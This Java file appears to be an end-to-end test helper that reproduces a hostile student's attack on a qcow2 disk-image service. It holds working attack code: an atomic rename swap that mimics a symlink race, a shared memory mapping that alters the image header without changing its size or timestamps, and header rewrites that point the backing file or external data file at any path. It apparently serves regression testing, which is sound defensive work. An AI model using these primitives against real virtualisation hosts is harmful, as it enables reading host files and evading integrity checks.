package org.ievirsh.e2e;

import com.sun.jna.LastErrorException;
import com.sun.jna.Native;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.ByteOrder;
import java.nio.MappedByteBuffer;
import java.nio.channels.FileChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;

/** Hostile is what a hostile student does to their own files, the way the tries of the security issue did. */
final class Hostile {
    private static final int AT_FDCWD = -100;
    private static final int RENAME_EXCHANGE = 2;
    private static final int QCOW2_INCOMPATIBLE_DATA_FILE = 1 << 2;
    private static final int EXT_DATA_FILE = 0x44415441;

    static {
        Native.register(Hostile.class, "c");
    }

    private Hostile() {
    }

    private static native int renameat2(int olddirfd, String oldpath, int newdirfd, String newpath, int flags)
            throws LastErrorException;

    /** Swaps two names atomically (renameat2 RENAME_EXCHANGE): what a symlink race does. */
    static void exchange(Path a, Path b) {
        renameat2(AT_FDCWD, a.toString(), AT_FDCWD, b.toString(), RENAME_EXCHANGE);
    }

    /**
     * MappedHeader is a qcow2's first page mapped shared and writable, as a
     * student maps their own image: once {@link #dirty} has written to it,
     * further writes to the page change neither size nor times until the
     * kernel writes it back (tens of seconds).
     */
    static final class MappedHeader implements AutoCloseable {
        private final RandomAccessFile file;
        private final MappedByteBuffer page;

        MappedHeader(Path image) throws IOException {
            this.file = new RandomAccessFile(image.toFile(), "rw");
            this.page = file.getChannel().map(FileChannel.MapMode.READ_WRITE, 0, 4096);
            this.page.order(ByteOrder.BIG_ENDIAN);
        }

        /** Writes a byte of the header as it is: the page is dirty, the file's times move once. */
        void dirty() {
            page.put(40, page.get(40));
        }

        /**
         * Turns the clean header into one whose external data file is
         * {@code target}: the incompatible-feature bit and a data-file header
         * extension, in the page already dirty.
         */
        void nameDataFile(String target) {
            page.putLong(72, page.getLong(72) | QCOW2_INCOMPATIBLE_DATA_FILE);
            int extensions = page.getInt(100);
            byte[] name = target.getBytes(StandardCharsets.US_ASCII);
            int padded = (name.length + 7) & ~7;
            page.putInt(extensions, EXT_DATA_FILE);
            page.putInt(extensions + 4, name.length);
            page.put(extensions + 8, name);
            for (int i = name.length; i < padded; i++) {
                page.put(extensions + 8 + i, (byte) 0);
            }
            page.putInt(extensions + 8 + padded, 0);  // end of extensions
            page.putInt(extensions + 8 + padded + 4, 0);
        }

        /** Turns the clean header into one whose backing file is {@code target} (raw), in the dirty page. */
        void nameBackingFile(String target) {
            byte[] name = target.getBytes(StandardCharsets.US_ASCII);
            int at = 3072;  // inside the first page, past the header and its extensions
            page.put(at, name);
            page.putLong(8, at);
            page.putInt(16, name.length);
        }

        @Override
        public void close() throws IOException {
            file.close();
        }
    }
}
